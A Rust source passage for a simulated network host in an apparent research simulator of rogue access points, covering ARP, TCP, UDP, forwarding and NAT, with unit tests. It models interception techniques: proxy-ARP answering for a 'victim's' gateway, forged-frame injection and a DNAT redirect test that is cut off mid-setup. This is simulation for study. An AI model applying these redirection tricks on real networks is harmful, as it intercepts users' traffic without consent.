/// Ethertype numbers.
const ET_IPV4: u16 = 0x0800;
const ET_ARP: u16 = 0x0806;

/// One network interface.
#[derive(Clone, Debug)]
pub struct Iface {
    /// Hardware address.
    pub mac: MacAddr,
    /// Configured IPv4 address.
    pub ip: Ipv4Addr,
    /// Subnet prefix length.
    pub prefix_len: u8,
    /// Accept frames not addressed to us (tcpdump-style).
    pub promiscuous: bool,
}

/// Asynchronous host notifications.
#[derive(Clone, Debug, PartialEq)]
pub enum HostEvent {
    /// An ICMP echo reply arrived.
    PingReply {
        /// Responder.
        from: Ipv4Addr,
        /// Echo sequence number.
        seq: u16,
    },
    /// ARP resolution gave up; queued packets were dropped.
    ArpFailed {
        /// The unresolvable next hop.
        dst: Ipv4Addr,
    },
}

struct PendingArp {
    ifindex: IfIndex,
    queue: Vec<Ipv4Packet>,
    deadline: SimTime,
    attempts: u8,
}

/// The host.
pub struct Host {
    /// Diagnostic name.
    pub name: String,
    ifaces: Vec<Iface>,
    /// Routing table (public: scenario setup writes routes directly,
    /// mirroring `route add …`).
    pub routes: RoutingTable,
    /// ARP cache.
    pub arp_cache: ArpCache,
    /// Which interface each ARP entry was learned on (parprouted input).
    pub arp_iface: HashMap<Ipv4Addr, IfIndex>,
    /// ARP requests heard that we did not answer: (target, ingress
    /// interface). parprouted drains these to probe the other side.
    pub arp_misses: Vec<(Ipv4Addr, IfIndex)>,
    pending_arp: HashMap<Ipv4Addr, PendingArp>,
    /// Forward packets between interfaces (`echo 1 > …/ip_forward`).
    pub ip_forward: bool,
    /// Answer ARP for destinations routed out another interface.
    pub proxy_arp: bool,
    /// NAT engine.
    pub netfilter: Netfilter,
    sockets: SocketSet,
    tcp_demux: HashMap<(u16, Ipv4Addr, u16), SocketHandle>,
    listeners: HashMap<u16, SocketHandle>,
    out: Vec<(IfIndex, Bytes)>,
    events: Vec<HostEvent>,
    rng: SimRng,
    next_ephemeral: u16,
    ping_ident: u16,
    ip_ident: u16,
    /// Default MSS for new TCP connections (E2 sweeps this).
    pub tcp_mss: usize,
    /// Packets forwarded between interfaces.
    pub forwarded: u64,
    /// Packets delivered to local sockets/ICMP.
    pub delivered: u64,
    /// Packets dropped for lack of a route.
    pub no_route_drops: u64,
}

impl Host {
    /// New host with no interfaces.
    pub fn new(name: impl Into<String>, rng: SimRng) -> Host {
        let mut rng = rng;
        let ping_ident = (rng.next_u32() & 0xFFFF) as u16;
        Host {
            name: name.into(),
            ifaces: Vec::new(),
            routes: RoutingTable::new(),
            arp_cache: ArpCache::new(),
            arp_iface: HashMap::new(),
            arp_misses: Vec::new(),
            pending_arp: HashMap::new(),
            ip_forward: false,
            proxy_arp: false,
            netfilter: Netfilter::new(),
            sockets: SocketSet::new(),
            tcp_demux: HashMap::new(),
            listeners: HashMap::new(),
            out: Vec::new(),
            events: Vec::new(),
            rng,
            next_ephemeral: 32_000,
            ping_ident,
            ip_ident: 0,
            tcp_mss: 1400,
            forwarded: 0,
            delivered: 0,
            no_route_drops: 0,
        }
    }

    /// Add an interface; installs its connected-subnet route.
    pub fn add_iface(&mut self, mac: MacAddr, ip: Ipv4Addr, prefix_len: u8) -> IfIndex {
        let idx = self.ifaces.len();
        self.ifaces.push(Iface {
            mac,
            ip,
            prefix_len,
            promiscuous: false,
        });
        self.routes.add_connected(ip, prefix_len, idx);
        idx
    }

    /// Interface accessor.
    pub fn iface(&self, idx: IfIndex) -> &Iface {
        &self.ifaces[idx]
    }

    /// Mutable interface accessor.
    pub fn iface_mut(&mut self, idx: IfIndex) -> &mut Iface {
        &mut self.ifaces[idx]
    }

    /// Number of interfaces.
    pub fn iface_count(&self) -> usize {
        self.ifaces.len()
    }

    fn is_local_ip(&self, ip: Ipv4Addr) -> bool {
        if ip == Ipv4Addr::new(255, 255, 255, 255) {
            return true;
        }
        self.ifaces
            .iter()
            .any(|i| i.ip == ip || broadcast_addr(i.ip, i.prefix_len) == ip)
    }

    // ------------------------------------------------------------------
    // Receive path
    // ------------------------------------------------------------------

    /// Feed one link-layer frame received on `ifindex`.
    pub fn on_link_rx(&mut self, now: SimTime, ifindex: IfIndex, bytes: &Bytes) {
        let Some(eth) = EthFrame::decode(bytes) else {
            return;
        };
        // Self-echo suppression: a frame sourced from any of our own
        // interfaces that arrives back (e.g. a co-channel AP radio
        // hearing its own machine's uplink NIC) must be ignored, exactly
        // as real stacks ignore their own looped-back transmissions.
        // Without this, a gateway whose rogue AP shares the uplink's
        // channel would proxy-ARP-answer its own queries and feed its
        // own upstream fetches back into its DNAT rule, recursively.
        if self.ifaces.iter().any(|i| i.mac == eth.src) {
            return;
        }
        let iface = &self.ifaces[ifindex];
        if eth.dst != iface.mac && !eth.dst.is_multicast() && !iface.promiscuous {
            return;
        }
        match eth.ethertype {
            ET_ARP => self.on_arp(now, ifindex, &eth),
            ET_IPV4 => {
                let Some(mut pkt) = Ipv4Packet::decode(&eth.payload) else {
                    return;
                };
                self.netfilter.prerouting(&mut pkt);
                if self.is_local_ip(pkt.dst) {
                    self.deliver_local(now, pkt);
                } else if self.ip_forward {
                    self.forward(now, pkt);
                }
            }
            _ => {}
        }
    }

    fn on_arp(&mut self, now: SimTime, ifindex: IfIndex, eth: &EthFrame) {
        let Some(arp) = ArpPacket::decode(&eth.payload) else {
            return;
        };
        // Learn the sender (gratuitously, like real stacks).
        if !arp.sender_ip.is_unspecified() {
            self.arp_cache.insert(now, arp.sender_ip, arp.sender_mac);
            self.arp_iface.insert(arp.sender_ip, ifindex);
            self.flush_pending_arp(now, arp.sender_ip, arp.sender_mac);
        }
        if arp.op != ArpOp::Request {
            return;
        }
        let my = &self.ifaces[ifindex];
        let answer = if arp.target_ip == my.ip {
            true
        } else if self.proxy_arp && !self.is_local_ip(arp.target_ip) {
            // Proxy-ARP: claim the address if we route it out another
            // interface (parprouted's trick).
            self.routes
                .lookup(arp.target_ip)
                .is_some_and(|nh| nh.ifindex != ifindex)
        } else {
            false
        };
        if answer {
            let my_mac = my.mac;
            let reply = ArpPacket::reply_to(&arp, my_mac);
            let frame = EthFrame::new(arp.sender_mac, my_mac, ET_ARP, reply.encode());
            self.out.push((ifindex, frame.encode()));
        } else if !self.is_local_ip(arp.target_ip) {
            self.arp_misses.push((arp.target_ip, ifindex));
        }
    }

    /// Transmit an ARP who-has on `ifindex` (parprouted's active probe).
    pub fn send_arp_probe(&mut self, ifindex: IfIndex, target: Ipv4Addr) {
        self.send_arp_request(ifindex, target);
    }

    fn deliver_local(&mut self, now: SimTime, pkt: Ipv4Packet) {
        self.delivered += 1;
        match pkt.protocol {
            proto::ICMP => self.deliver_icmp(now, pkt),
            proto::UDP => self.deliver_udp(now, pkt),
            proto::TCP => self.deliver_tcp(now, pkt),
            _ => {}
        }
    }

    fn deliver_icmp(&mut self, now: SimTime, pkt: Ipv4Packet) {
        let Some(msg) = IcmpMessage::decode(&pkt.payload) else {
            return;
        };
        match msg {
            IcmpMessage::EchoRequest {
                ident,
                seq,
                payload,
            } => {
                let reply = IcmpMessage::EchoReply {
                    ident,
                    seq,
                    payload,
                };
                let out = Ipv4Packet::new(pkt.dst, pkt.src, proto::ICMP, reply.encode());
                self.ip_output(now, out);
            }
            IcmpMessage::EchoReply { ident, seq, .. } if ident == self.ping_ident => {
                self.events
                    .push(HostEvent::PingReply { from: pkt.src, seq });
            }
            _ => {}
        }
    }

    fn deliver_udp(&mut self, now: SimTime, pkt: Ipv4Packet) {
        let Some(dg) = UdpDatagram::decode(pkt.src, pkt.dst, &pkt.payload) else {
            return;
        };
        let handle = self.sockets.iter().find_map(|(h, s)| match s {
            Socket::Udp { port, .. } if *port == dg.dst_port => Some(h),
            _ => None,
        });
        match handle {
            Some(h) => {
                if let Some(Socket::Udp { rx, .. }) = self.sockets.get_mut(h) {
                    rx.push_back((pkt.src, dg.src_port, dg.payload));
                }
            }
            None => {
                // Port unreachable, quoting the offending datagram.
                let mut quoted = pkt.encode().to_vec();
                quoted.truncate(28);
                let msg = IcmpMessage::DestUnreachable {
                    code: 3,
                    original: Bytes::from(quoted),
                };
                let out = Ipv4Packet::new(pkt.dst, pkt.src, proto::ICMP, msg.encode());
                self.ip_output(now, out);
            }
        }
    }

    fn deliver_tcp(&mut self, now: SimTime, pkt: Ipv4Packet) {
        let Some(seg) = TcpSegment::decode(pkt.src, pkt.dst, &pkt.payload) else {
            return;
        };
        let key = (seg.dst_port, pkt.src, seg.src_port);
        if let Some(&h) = self.tcp_demux.get(&key) {
            if let Some(Socket::Tcp(conn)) = self.sockets.get_mut(h) {
                conn.on_segment(now, &seg);
                self.flush_tcp(now, h);
            }
            return;
        }
        // New connection?
        if seg.flags & flags::SYN != 0 && seg.flags & flags::ACK == 0 {
            if let Some(&lh) = self.listeners.get(&seg.dst_port) {
                let iss = self.rng.next_u32();
                let mss = self.tcp_mss;
                let conn = TcpConnection::accept(
                    now,
                    (pkt.dst, seg.dst_port),
                    (pkt.src, seg.src_port),
                    &seg,
                    iss,
                    mss,
                );
                let h = self.sockets.insert(Socket::Tcp(conn));
                self.tcp_demux.insert(key, h);
                if let Some(Socket::TcpListener { backlog, .. }) = self.sockets.get_mut(lh) {
                    backlog.push_back(h);
                }
                self.flush_tcp(now, h);
                return;
            }
        }
        // No socket: RST (unless the segment itself was a RST).
        if seg.flags & flags::RST == 0 {
            let rst = TcpSegment {
                src_port: seg.dst_port,
                dst_port: seg.src_port,
                seq: seg.ack,
                ack: seg.seq.wrapping_add(seg.payload.len() as u32 + 1),
                flags: flags::RST | flags::ACK,
                window: 0,
                payload: Bytes::new(),
            };
            let out = Ipv4Packet::new(pkt.dst, pkt.src, proto::TCP, rst.encode(pkt.dst, pkt.src));
            self.ip_output(now, out);
        }
    }

    fn forward(&mut self, now: SimTime, mut pkt: Ipv4Packet) {
        if pkt.ttl <= 1 {
            let mut quoted = pkt.encode().to_vec();
            quoted.truncate(28);
            let msg = IcmpMessage::TimeExceeded {
                original: Bytes::from(quoted),
            };
            // Source the error from the ingress interface address.
            let src = self.ifaces.first().map(|i| i.ip).unwrap_or(pkt.dst);
            let out = Ipv4Packet::new(src, pkt.src, proto::ICMP, msg.encode());
            self.ip_output(now, out);
            return;
        }
        pkt.ttl -= 1;
        self.forwarded += 1;
        self.ip_output(now, pkt);
    }

    // ------------------------------------------------------------------
    // Send path
    // ------------------------------------------------------------------

    /// Route, NAT (POSTROUTING) and emit one IP packet.
    pub fn ip_output(&mut self, now: SimTime, mut pkt: Ipv4Packet) {
        let Some(nh) = self.routes.lookup(pkt.dst) else {
            self.no_route_drops += 1;
            return;
        };
        let out_ip = self.ifaces[nh.ifindex].ip;
        self.netfilter.postrouting(&mut pkt, nh.ifindex, out_ip);
        pkt.ident = self.ip_ident;
        self.ip_ident = self.ip_ident.wrapping_add(1);

        let iface = &self.ifaces[nh.ifindex];
        let bcast = broadcast_addr(iface.ip, iface.prefix_len);
        if pkt.dst == Ipv4Addr::new(255, 255, 255, 255) || pkt.dst == bcast {
            let frame = EthFrame::new(MacAddr::BROADCAST, iface.mac, ET_IPV4, pkt.encode());
            self.out.push((nh.ifindex, frame.encode()));
            return;
        }
        match self.arp_cache.lookup(now, nh.via) {
            Some(mac) => {
                let frame = EthFrame::new(mac, iface.mac, ET_IPV4, pkt.encode());
                self.out.push((nh.ifindex, frame.encode()));
            }
            None => {
                let entry = self
                    .pending_arp
                    .entry(nh.via)
                    .or_insert_with(|| PendingArp {
                        ifindex: nh.ifindex,
                        queue: Vec::new(),
                        deadline: now + ARP_RETRY,
                        attempts: 0,
                    });
                let fresh = entry.queue.is_empty() && entry.attempts == 0;
                entry.queue.push(pkt);
                if fresh {
                    self.send_arp_request(nh.ifindex, nh.via);
                }
            }
        }
    }

    fn send_arp_request(&mut self, ifindex: IfIndex, target: Ipv4Addr) {
        let iface = &self.ifaces[ifindex];
        let req = ArpPacket::request(iface.mac, iface.ip, target);
        let frame = EthFrame::new(MacAddr::BROADCAST, iface.mac, ET_ARP, req.encode());
        self.out.push((ifindex, frame.encode()));
    }

    fn flush_pending_arp(&mut self, now: SimTime, ip: Ipv4Addr, mac: MacAddr) {
        if let Some(pending) = self.pending_arp.remove(&ip) {
            let iface_mac = self.ifaces[pending.ifindex].mac;
            for pkt in pending.queue {
                let frame = EthFrame::new(mac, iface_mac, ET_IPV4, pkt.encode());
                self.out.push((pending.ifindex, frame.encode()));
            }
            let _ = now;
        }
    }

    // ------------------------------------------------------------------
    // Socket API
    // ------------------------------------------------------------------

    fn alloc_port(&mut self) -> u16 {
        let p = self.next_ephemeral;
        self.next_ephemeral = if p >= 60_000 { 32_000 } else { p + 1 };
        p
    }

    /// The source address the stack would pick for `dst`.
    pub fn source_ip_for(&self, dst: Ipv4Addr) -> Option<Ipv4Addr> {
        self.routes.lookup(dst).map(|nh| self.ifaces[nh.ifindex].ip)
    }

    /// Open a TCP listener on `port`.
    pub fn tcp_listen(&mut self, port: u16) -> SocketHandle {
        let h = self.sockets.insert(Socket::TcpListener {
            port,
            backlog: VecDeque::new(),
        });
        self.listeners.insert(port, h);
        h
    }

    /// Claim one accepted connection from a listener, if any.
    pub fn tcp_accept(&mut self, listener: SocketHandle) -> Option<SocketHandle> {
        match self.sockets.get_mut(listener) {
            Some(Socket::TcpListener { backlog, .. }) => backlog.pop_front(),
            _ => None,
        }
    }

    /// Actively open a TCP connection.
    pub fn tcp_connect(&mut self, now: SimTime, dst: Ipv4Addr, dst_port: u16) -> SocketHandle {
        let src_ip = self.source_ip_for(dst).unwrap_or(Ipv4Addr::UNSPECIFIED);
        let src_port = self.alloc_port();
        let iss = self.rng.next_u32();
        let mss = self.tcp_mss;
        let conn = TcpConnection::connect(now, (src_ip, src_port), (dst, dst_port), iss, mss);
        let h = self.sockets.insert(Socket::Tcp(conn));
        self.tcp_demux.insert((src_port, dst, dst_port), h);
        self.flush_tcp(now, h);
        h
    }

    /// Queue bytes on a TCP socket; returns bytes accepted.
    pub fn tcp_send(&mut self, now: SimTime, h: SocketHandle, data: &[u8]) -> usize {
        let n = match self.sockets.get_mut(h) {
            Some(Socket::Tcp(conn)) => conn.send(data),
            _ => 0,
        };
        if n > 0 {
            self.flush_tcp(now, h);
        }
        n
    }

    /// Drain received bytes from a TCP socket.
    pub fn tcp_recv(&mut self, h: SocketHandle, max: usize) -> Vec<u8> {
        match self.sockets.get_mut(h) {
            Some(Socket::Tcp(conn)) => conn.recv(max),
            _ => Vec::new(),
        }
    }

    /// Connection established?
    pub fn tcp_is_established(&self, h: SocketHandle) -> bool {
        matches!(self.sockets.get(h), Some(Socket::Tcp(c)) if c.is_established())
    }

    /// Peer has closed its direction and our buffer is drained?
    pub fn tcp_eof(&self, h: SocketHandle) -> bool {
        match self.sockets.get(h) {
            Some(Socket::Tcp(c)) => c.peer_closed() && c.recv_available() == 0,
            _ => true,
        }
    }

    /// Fully closed (or gone)?
    pub fn tcp_is_closed(&self, h: SocketHandle) -> bool {
        match self.sockets.get(h) {
            Some(Socket::Tcp(c)) => c.is_closed(),
            Some(_) => false,
            None => true,
        }
    }

    /// Current TCP state, if the handle is a connection.
    pub fn tcp_state(&self, h: SocketHandle) -> Option<TcpState> {
        match self.sockets.get(h) {
            Some(Socket::Tcp(c)) => Some(c.state()),
            _ => None,
        }
    }

    /// Remote endpoint of a connection.
    pub fn tcp_peer(&self, h: SocketHandle) -> Option<(Ipv4Addr, u16)> {
        match self.sockets.get(h) {
            Some(Socket::Tcp(c)) => Some(c.remote),
            _ => None,
        }
    }

    /// Total retransmissions on a connection (E5 metric).
    pub fn tcp_retransmissions(&self, h: SocketHandle) -> u64 {
        match self.sockets.get(h) {
            Some(Socket::Tcp(c)) => c.retransmissions,
            _ => 0,
        }
    }

    /// Graceful close.
    pub fn tcp_close(&mut self, now: SimTime, h: SocketHandle) {
        if let Some(Socket::Tcp(conn)) = self.sockets.get_mut(h) {
            conn.close();
        }
        self.flush_tcp(now, h);
    }

    /// Abortive close.
    pub fn tcp_abort(&mut self, now: SimTime, h: SocketHandle) {
        if let Some(Socket::Tcp(conn)) = self.sockets.get_mut(h) {
            conn.abort(now);
        }
        self.flush_tcp(now, h);
    }

    /// Release a finished socket's resources.
    pub fn tcp_release(&mut self, h: SocketHandle) {
        if let Some(Socket::Tcp(conn)) = self.sockets.get(h) {
            let key = (conn.local.1, conn.remote.0, conn.remote.1);
            self.tcp_demux.remove(&key);
        }
        if let Some(Socket::TcpListener { port, .. }) = self.sockets.get(h) {
            self.listeners.remove(port);
        }
        self.sockets.remove(h);
    }

    fn flush_tcp(&mut self, now: SimTime, h: SocketHandle) {
        let (segments, local, remote) = match self.sockets.get_mut(h) {
            Some(Socket::Tcp(conn)) => {
                conn.poll(now);
                (conn.take_outgoing(), conn.local, conn.remote)
            }
            _ => return,
        };
        for seg in segments {
            let pkt = Ipv4Packet::new(local.0, remote.0, proto::TCP, seg.encode(local.0, remote.0));
            self.ip_output(now, pkt);
        }
    }

    /// Bind a UDP socket.
    pub fn udp_bind(&mut self, port: u16) -> SocketHandle {
        self.sockets.insert(Socket::Udp {
            port,
            rx: VecDeque::new(),
        })
    }

    /// Send a UDP datagram from a bound socket.
    pub fn udp_send(
        &mut self,
        now: SimTime,
        h: SocketHandle,
        dst: Ipv4Addr,
        dst_port: u16,
        payload: &[u8],
    ) {
        self.udp_send_bytes(now, h, dst, dst_port, Bytes::copy_from_slice(payload));
    }

    /// Send a UDP datagram whose payload the caller already owns as
    /// [`Bytes`] — the buffer is threaded into the datagram without a
    /// copy (the VPN record path sends sealed records this way).
    pub fn udp_send_bytes(
        &mut self,
        now: SimTime,
        h: SocketHandle,
        dst: Ipv4Addr,
        dst_port: u16,
        payload: Bytes,
    ) {
        let src_port = match self.sockets.get(h) {
            Some(Socket::Udp { port, .. }) => *port,
            _ => return,
        };
        let Some(src_ip) = self.source_ip_for(dst) else {
            self.no_route_drops += 1;
            return;
        };
        let dg = UdpDatagram::new(src_port, dst_port, payload);
        let pkt = Ipv4Packet::new(src_ip, dst, proto::UDP, dg.encode(src_ip, dst));
        self.ip_output(now, pkt);
    }

    /// Pop one received datagram: (src ip, src port, payload).
    pub fn udp_recv(&mut self, h: SocketHandle) -> Option<(Ipv4Addr, u16, Bytes)> {
        match self.sockets.get_mut(h) {
            Some(Socket::Udp { rx, .. }) => rx.pop_front(),
            _ => None,
        }
    }

    /// Send an ICMP echo request.
    pub fn ping(&mut self, now: SimTime, dst: Ipv4Addr, seq: u16) {
        let Some(src) = self.source_ip_for(dst) else {
            self.no_route_drops += 1;
            return;
        };
        let msg = IcmpMessage::EchoRequest {
            ident: self.ping_ident,
            seq,
            payload: Bytes::from_static(b"rogue-netstack ping"),
        };
        let pkt = Ipv4Packet::new(src, dst, proto::ICMP, msg.encode());
        self.ip_output(now, pkt);
    }

    // ------------------------------------------------------------------
    // Driving
    // ------------------------------------------------------------------

    /// Earliest instant this host needs a poll.
    pub fn next_wake(&self) -> SimTime {
        let mut wake = SimTime::FOREVER;
        for (_, s) in self.sockets.iter() {
            if let Socket::Tcp(c) = s {
                wake = wake.min(c.next_wake());
            }
        }
        for p in self.pending_arp.values() {
            wake = wake.min(p.deadline);
        }
        wake
    }

    /// Drive timers: TCP retransmissions, ARP retries.
    pub fn poll(&mut self, now: SimTime) {
        // TCP timers.
        let handles: Vec<SocketHandle> = self
            .sockets
            .iter()
            .filter_map(|(h, s)| match s {
                Socket::Tcp(c) if c.next_wake() <= now || c.wants_poll() => Some(h),
                _ => None,
            })
            .collect();
        for h in handles {
            self.flush_tcp(now, h);
        }
        // ARP retries.
        let due: Vec<Ipv4Addr> = self
            .pending_arp
            .iter()
            .filter(|(_, p)| p.deadline <= now)
            .map(|(ip, _)| *ip)
            .collect();
        for ip in due {
            let (ifindex, give_up) = {
                let p = self.pending_arp.get_mut(&ip).expect("collected above");
                p.attempts += 1;
                p.deadline = now + ARP_RETRY;
                (p.ifindex, p.attempts >= 3)
            };
            if give_up {
                self.pending_arp.remove(&ip);
                self.events.push(HostEvent::ArpFailed { dst: ip });
            } else {
                self.send_arp_request(ifindex, ip);
            }
        }
    }

    /// Take frames queued for transmission: (ifindex, ethernet bytes).
    pub fn take_frames(&mut self) -> Vec<(IfIndex, Bytes)> {
        std::mem::take(&mut self.out)
    }

    /// Like [`Self::take_frames`], but swaps the queued frames into
    /// `sink` (which must be empty) so a pooled buffer can be reused
    /// across polls without allocating.
    pub fn take_frames_into(&mut self, sink: &mut Vec<(IfIndex, Bytes)>) {
        debug_assert!(sink.is_empty(), "take_frames_into requires an empty sink");
        std::mem::swap(&mut self.out, sink);
    }

    /// Take pending events.
    pub fn take_events(&mut self) -> Vec<HostEvent> {
        std::mem::take(&mut self.events)
    }

    /// Number of live sockets (diagnostics / leak checks).
    pub fn socket_count(&self) -> usize {
        self.sockets.len()
    }

    /// Queue a raw link-layer frame for transmission on `ifindex`
    /// (attack tooling: forged ARP etc.).
    pub fn inject_frame(&mut self, ifindex: IfIndex, bytes: Bytes) {
        self.out.push((ifindex, bytes));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_sim::{Seed, SimDuration};

    /// A perfect two-host wire on one subnet.
    struct Pair {
        a: Host,
        b: Host,
        now: SimTime,
    }

    const IP_A: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 1);
    const IP_B: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 2);

    impl Pair {
        fn new() -> Pair {
            let mut a = Host::new("a", SimRng::new(Seed(1)));
            let mut b = Host::new("b", SimRng::new(Seed(2)));
            a.add_iface(MacAddr::local(1), IP_A, 24);
            b.add_iface(MacAddr::local(2), IP_B, 24);
            Pair {
                a,
                b,
                now: SimTime::ZERO,
            }
        }

        /// Shuttle frames until quiescent.
        fn pump(&mut self, rounds: usize) {
            for _ in 0..rounds {
                self.now += SimDuration::from_millis(1);
                self.a.poll(self.now);
                self.b.poll(self.now);
                let fa = self.a.take_frames();
                let fb = self.b.take_frames();
                if fa.is_empty() && fb.is_empty() {
                    break;
                }
                for (_, f) in fa {
                    self.b.on_link_rx(self.now, 0, &f);
                }
                for (_, f) in fb {
                    self.a.on_link_rx(self.now, 0, &f);
                }
            }
        }
    }

    #[test]
    fn arp_resolves_then_ping_replies() {
        let mut p = Pair::new();
        p.a.ping(p.now, IP_B, 1);
        p.pump(20);
        let events = p.a.take_events();
        assert!(
            events.contains(&HostEvent::PingReply { from: IP_B, seq: 1 }),
            "events: {events:?}"
        );
        // The cache is warm now.
        assert!(p.a.arp_cache.lookup(p.now, IP_B).is_some());
    }

    #[test]
    fn arp_gives_up_on_silent_host() {
        let mut a = Host::new("a", SimRng::new(Seed(1)));
        a.add_iface(MacAddr::local(1), IP_A, 24);
        a.ping(SimTime::ZERO, IP_B, 1);
        let mut now;
        for _ in 0..10 {
            now = a.next_wake();
            if now == SimTime::FOREVER {
                break;
            }
            a.poll(now);
            a.take_frames();
        }
        assert!(a
            .take_events()
            .contains(&HostEvent::ArpFailed { dst: IP_B }));
    }

    #[test]
    fn tcp_end_to_end() {
        let mut p = Pair::new();
        let lh = p.b.tcp_listen(80);
        let ch = p.a.tcp_connect(p.now, IP_B, 80);
        p.pump(50);
        assert!(p.a.tcp_is_established(ch));
        let sh = p.b.tcp_accept(lh).expect("accepted");
        assert!(p.b.tcp_is_established(sh));

        p.a.tcp_send(p.now, ch, b"GET / HTTP/1.0\r\n\r\n");
        p.pump(50);
        assert_eq!(p.b.tcp_recv(sh, 4096), b"GET / HTTP/1.0\r\n\r\n");

        p.b.tcp_send(p.now, sh, b"HTTP/1.0 200 OK\r\n\r\nhello");
        p.b.tcp_close(p.now, sh);
        p.pump(50);
        assert_eq!(p.a.tcp_recv(ch, 4096), b"HTTP/1.0 200 OK\r\n\r\nhello");
        assert!(p.a.tcp_eof(ch));
    }

    #[test]
    fn tcp_to_closed_port_gets_rst() {
        let mut p = Pair::new();
        let ch = p.a.tcp_connect(p.now, IP_B, 9999);
        p.pump(20);
        assert!(p.a.tcp_is_closed(ch), "state: {:?}", p.a.tcp_state(ch));
    }

    #[test]
    fn udp_round_trip() {
        let mut p = Pair::new();
        let sb = p.b.udp_bind(53);
        let sa = p.a.udp_bind(5353);
        p.a.udp_send(p.now, sa, IP_B, 53, b"query");
        p.pump(20);
        let (src, sport, payload) = p.b.udp_recv(sb).expect("datagram");
        assert_eq!(src, IP_A);
        assert_eq!(sport, 5353);
        assert_eq!(&payload[..], b"query");
        // Reply.
        p.b.udp_send(p.now, sb, IP_A, 5353, b"answer");
        p.pump(20);
        let (_, _, payload) = p.a.udp_recv(sa).expect("reply");
        assert_eq!(&payload[..], b"answer");
    }

    #[test]
    fn forwarding_between_subnets() {
        // a (10.0.0.2) -- r (10.0.0.1 / 10.0.1.1) -- b (10.0.1.2)
        let mut a = Host::new("a", SimRng::new(Seed(1)));
        let mut r = Host::new("r", SimRng::new(Seed(2)));
        let mut b = Host::new("b", SimRng::new(Seed(3)));
        a.add_iface(MacAddr::local(1), Ipv4Addr::new(10, 0, 0, 2), 24);
        let r0 = r.add_iface(MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 1), 24);
        let r1 = r.add_iface(MacAddr::local(3), Ipv4Addr::new(10, 0, 1, 1), 24);
        b.add_iface(MacAddr::local(4), Ipv4Addr::new(10, 0, 1, 2), 24);
        r.ip_forward = true;
        a.routes.add_default(Ipv4Addr::new(10, 0, 0, 1), 0);
        b.routes.add_default(Ipv4Addr::new(10, 0, 1, 1), 0);

        a.ping(SimTime::ZERO, Ipv4Addr::new(10, 0, 1, 2), 7);
        let mut now = SimTime::ZERO;
        for _ in 0..40 {
            now += SimDuration::from_millis(1);
            a.poll(now);
            r.poll(now);
            b.poll(now);
            for (_, f) in a.take_frames() {
                r.on_link_rx(now, r0, &f);
            }
            for (ifx, f) in r.take_frames() {
                if ifx == r0 {
                    a.on_link_rx(now, 0, &f);
                } else {
                    b.on_link_rx(now, 0, &f);
                }
            }
            for (_, f) in b.take_frames() {
                r.on_link_rx(now, r1, &f);
            }
        }
        assert!(a
            .take_events()
            .iter()
            .any(|e| matches!(e, HostEvent::PingReply { seq: 7, .. })));
        assert!(r.forwarded >= 2, "router forwarded both directions");
        let _ = r1;
    }

    #[test]
    fn no_forwarding_when_disabled() {
        let mut r = Host::new("r", SimRng::new(Seed(2)));
        let r0 = r.add_iface(MacAddr::local(2), Ipv4Addr::new(10, 0, 0, 1), 24);
        r.add_iface(MacAddr::local(3), Ipv4Addr::new(10, 0, 1, 1), 24);
        // A packet for the other subnet arrives; ip_forward = false.
        let msg = IcmpMessage::EchoRequest {
            ident: 1,
            seq: 1,
            payload: Bytes::new(),
        };
        let pkt = Ipv4Packet::new(
            Ipv4Addr::new(10, 0, 0, 2),
            Ipv4Addr::new(10, 0, 1, 2),
            proto::ICMP,
            msg.encode(),
        );
        let eth = EthFrame::new(MacAddr::local(2), MacAddr::local(1), ET_IPV4, pkt.encode());
        r.on_link_rx(SimTime::ZERO, r0, &eth.encode());
        r.poll(SimTime::from_millis(1));
        assert!(r.take_frames().is_empty());
        assert_eq!(r.forwarded, 0);
    }

    #[test]
    fn proxy_arp_answers_for_routed_hosts() {
        // Gateway with two ifaces; host route for VICTIM via iface 1.
        let mut gw = Host::new("gw", SimRng::new(Seed(5)));
        let g0 = gw.add_iface(MacAddr::local(10), Ipv4Addr::new(192, 168, 0, 1), 24);
        let _g1 = gw.add_iface(MacAddr::local(11), Ipv4Addr::new(192, 168, 0, 2), 24);
        gw.proxy_arp = true;
        let victim = Ipv4Addr::new(192, 168, 0, 50);
        let corp_gw = Ipv4Addr::new(192, 168, 0, 254);
        gw.routes.add_host(corp_gw, 1); // CORP gateway lives behind iface 1

        // The victim (on iface 0 side) ARPs for the corporate gateway.
        let req = ArpPacket::request(MacAddr::local(99), victim, corp_gw);
        let eth = EthFrame::new(MacAddr::BROADCAST, MacAddr::local(99), ET_ARP, req.encode());
        gw.on_link_rx(SimTime::ZERO, g0, &eth.encode());
        let frames = gw.take_frames();
        let reply = frames
            .iter()
            .find_map(|(ifx, f)| {
                let e = EthFrame::decode(f)?;
                if e.ethertype != ET_ARP {
                    return None;
                }
                let a = ArpPacket::decode(&e.payload)?;
                (a.op == ArpOp::Reply).then_some((*ifx, a))
            })
            .expect("proxy ARP reply");
        assert_eq!(reply.0, g0, "answered on the asking side");
        assert_eq!(reply.1.sender_ip, corp_gw);
        assert_eq!(reply.1.sender_mac, MacAddr::local(10), "gateway's own MAC");
        // And the victim's location was learned for the reverse direction.
        assert_eq!(gw.arp_iface.get(&victim), Some(&g0));
    }

    #[test]
    fn proxy_arp_stays_quiet_without_route_or_flag() {
        let mut gw = Host::new("gw", SimRng::new(Seed(6)));
        let g0 = gw.add_iface(MacAddr::local(10), Ipv4Addr::new(192, 168, 0, 1), 24);
        gw.add_iface(MacAddr::local(11), Ipv4Addr::new(10, 0, 0, 1), 24);
        // No proxy_arp flag.
        let req = ArpPacket::request(
            MacAddr::local(99),
            Ipv4Addr::new(192, 168, 0, 50),
            Ipv4Addr::new(10, 0, 0, 9),
        );
        let eth = EthFrame::new(MacAddr::BROADCAST, MacAddr::local(99), ET_ARP, req.encode());
        gw.on_link_rx(SimTime::ZERO, g0, &eth.encode());
        assert!(gw.take_frames().is_empty());
    }

    #[test]
    fn dnat_redirects_to_local_socket() {
        // The paper's netsed redirect, end to end on one wire: the victim
        // connects to TARGET:80 but lands on the gateway's local 10101.
        use crate::netfilter::DnatRule;
        let target = Ipv4Addr::new(10, 9, 9, 9);
        let mut p = Pair::new();
        // b is the gateway: DNAT TARGET:80 -> (its own IP):10101.
        p.b.netfilter.add_dnat(DnatRule {
            proto: Some(proto::TCP),
            dst: Some(target),
            dport: Some(80),
            to: (IP_B, 10101),
        });
